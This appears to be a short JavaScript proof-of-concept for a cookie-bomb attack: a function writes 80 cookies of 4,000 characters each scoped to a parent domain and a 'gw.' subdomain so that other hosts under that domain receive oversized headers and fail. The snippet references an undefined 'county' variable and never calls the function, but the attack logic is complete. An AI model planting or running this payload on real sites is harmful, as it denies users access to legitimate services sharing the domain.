// Fills the browser with cookies for the whole county, so that every other host gets them all.
const bomb = () => {
  const large = "x".repeat(4000);
  for (const domain of [county, `gw.${county}`]) {
    for (let number = 0; number < 80; number++) document.cookie = `bomb${number}=${large}; domain=${domain}; path=/`;
  }
};
addEventListener("load", () => { document.title = "done"; });
